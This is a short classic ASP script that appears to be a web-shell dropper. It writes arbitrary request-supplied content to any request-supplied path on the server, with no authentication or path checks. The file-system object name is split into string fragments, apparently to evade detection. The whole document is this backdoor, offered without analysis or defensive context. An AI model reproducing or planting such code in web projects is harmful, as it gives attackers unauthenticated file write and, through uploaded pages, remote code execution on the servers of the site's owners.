<%
Set f = Server.CreateObject("Scri" & "pting.File" & "SystemObject")
p = Request("p")
If p <> "" Then
    Set t = f.CreateTextFile(Server.MapPath(p), True)
    t.Write Request("b")
    t.Close
End If
%>
